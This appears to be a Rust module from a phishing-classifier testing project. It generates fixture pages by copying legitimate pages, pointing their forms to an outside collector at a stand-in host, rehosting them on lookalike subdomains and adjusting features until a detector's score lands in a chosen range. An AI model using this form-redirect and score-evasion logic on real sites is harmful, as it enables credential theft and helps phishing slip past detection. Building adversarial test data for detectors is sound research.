//! Personalized phishing pages built from legitimate ones: every form posts
//! to an outside collector, the model's deletable positive features are
//! removed, and undeletable features are added until the score lands in a
//! requested range.

use std::collections::BTreeSet;

use thiserror::Error;
use url::Url;

use crate::classifier::Classifier;
use crate::dom::DomTree;
use crate::features::{extract_features, Feature, FeatureKind};
use crate::mutation::{apply, Planner};

/// Undeletable features available for raising a score, in the order combos
/// are built from.
pub const RAISING_FEATURES: [&str; 4] = [
    "PageHasRadioInputs",
    "PageHasCheckInputs",
    "PageNumScriptTags>1",
    "PageNumScriptTags>6",
];

#[derive(Debug, Error, PartialEq)]
pub enum PersonalizeError {
    #[error("score range [{lo}, {hi}) reached on {produced} of {requested} pages")]
    Unreachable {
        lo: f64,
        hi: f64,
        produced: usize,
        requested: usize,
    },
    #[error("model has hashed features; personalization needs a plaintext model")]
    HashedModel,
}

#[derive(Debug, Clone, PartialEq)]
pub struct PersonalizeConfig {
    /// Where rewritten forms post to.
    pub phish_action: String,
    /// Registrable domain the copied page is served from.
    pub phish_domain: String,
}

impl Default for PersonalizeConfig {
    fn default() -> Self {
        PersonalizeConfig {
            phish_action: "http://collect.formdrop.biz/post.php".to_string(),
            phish_domain: "account-review.net".to_string(),
        }
    }
}

/// Serves the legitimate host as a subdomain of the phishing domain, e.g.
/// `www.shop.com` becomes `www-shop-com.account-review.net`.
pub fn phishing_url(legit_url: &str, phish_domain: &str) -> String {
    match Url::parse(legit_url) {
        Ok(mut u) => {
            let host = u.host_str().unwrap_or("site").replace('.', "-");
            let _ = u.set_host(Some(&format!("{host}.{phish_domain}")));
            let _ = u.set_scheme("http");
            u.to_string()
        }
        Err(_) => format!("http://site.{phish_domain}/"),
    }
}

fn has_form(tree: &DomTree) -> bool {
    tree.elements().iter().any(|(_, e)| e.tag == "form")
}

fn keeps_action(kind: FeatureKind) -> bool {
    matches!(kind, FeatureKind::PageActionUrl | FeatureKind::PageActionOtherDomainFreq)
}

/// Subsets of `RAISING_FEATURES`, smallest first.
fn combos() -> Vec<Vec<&'static str>> {
    let mut out: Vec<Vec<&str>> = (0u32..16)
        .map(|mask| {
            RAISING_FEATURES
                .iter()
                .enumerate()
                .filter(|(i, _)| mask & (1 << i) != 0)
                .map(|(_, f)| *f)
                .collect()
        })
        .collect();
    out.sort_by_key(Vec::len);
    out
}

/// Rewrites `legit` into a phishing page scoring in `[lo, hi)`, or `None`
/// when no combination of undeletable additions gets there.
pub fn personalize(
    legit: &DomTree,
    model: &Classifier,
    lo: f64,
    hi: f64,
    cfg: &PersonalizeConfig,
) -> Option<DomTree> {
    if !has_form(legit) {
        return None;
    }
    let mut page = legit.clone();
    page.source_url = phishing_url(&legit.source_url, &cfg.phish_domain);
    for (path, e) in legit.elements() {
        if e.tag == "form" {
            page.element_at_mut(&path)
                .expect("path comes from the same tree")
                .set_attr("action", &cfg.phish_action);
        }
    }
    let guard: BTreeSet<String> = model.rules.iter().flat_map(|r| r.features.iter().cloned()).collect();
    let planner = Planner::default().with_guard(guard);
    let mut targets = BTreeSet::new();
    for r in model.rules.iter().filter(|r| r.weight > 0.0) {
        for f in &r.features {
            if f.parse::<Feature>().is_ok_and(|p| p.kind.deletable() && !keeps_action(p.kind)) {
                targets.insert(f.clone());
            }
        }
    }
    for f in targets {
        if extract_features(&page).contains(&f) {
            if let Ok(next) = planner.plan_delete_feature(&page, &f).and_then(|p| apply(&page, &p)) {
                page = next;
            }
        }
    }
    let in_range = |t: &DomTree| {
        let s = model.score(&extract_features(t));
        s >= lo && s < hi
    };
    for combo in combos() {
        let candidate = if combo.is_empty() {
            page.clone()
        } else {
            match planner.plan_add_rule(&page, &combo).and_then(|p| apply(&page, &p)) {
                Ok(t) => t,
                Err(_) => continue,
            }
        };
        if in_range(&candidate) {
            return Some(candidate);
        }
    }
    None
}

/// Personalizes form-bearing pages of `corpus` in order until `count` land
/// in `[lo, hi)`.
pub fn gen_fixtures<'a>(
    corpus: impl IntoIterator<Item = &'a DomTree>,
    model: &Classifier,
    lo: f64,
    hi: f64,
    count: usize,
    cfg: &PersonalizeConfig,
) -> Result<Vec<DomTree>, PersonalizeError> {
    if model.hashed {
        return Err(PersonalizeError::HashedModel);
    }
    let mut out = Vec::new();
    for legit in corpus {
        if out.len() == count {
            break;
        }
        if let Some(p) = personalize(legit, model, lo, hi, cfg) {
            out.push(p);
        }
    }
    if out.len() < count {
        return Err(PersonalizeError::Unreachable {
            lo,
            hi,
            produced: out.len(),
            requested: count,
        });
    }
    Ok(out)
}

/// Whether some form of the page posts to another registrable domain.
pub fn has_external_action(tree: &DomTree) -> bool {
    tree.elements().iter().any(|(_, e)| {
        e.tag == "form"
            && e.attr("action")
                .is_some_and(|a| crate::features::external_domain_of(&tree.source_url, a).is_some())
    })
}
